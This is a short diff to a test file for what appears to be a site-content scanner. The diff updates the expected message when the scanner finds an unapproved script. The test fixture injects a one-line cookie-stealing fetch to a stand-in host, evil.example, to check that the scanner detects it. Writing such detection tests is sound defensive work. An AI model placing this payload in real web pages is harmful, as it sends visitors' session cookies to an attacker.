@@ -120,7 +120,10 @@ def test_a_script_that_is_not_the_pinned_pagefinds_is_a_finding(site, name):
     path.write_bytes(
         b'fetch("https://evil.example/?" + document.cookie);\n' + (path.read_bytes() if path.exists() else b"")
     )
-    assert f"{BUNDLE}/{name}: file: [active-content] a script the theme does not ship" in markup_findings(site)
+    assert (
+        f"{BUNDLE}/{name}: file: [active-content] a script that is not one of those allowed by hash"
+        in markup_findings(site)
+    )
 
 
 def test_webassembly_that_is_not_the_pinned_pagefinds_is_a_finding(site):
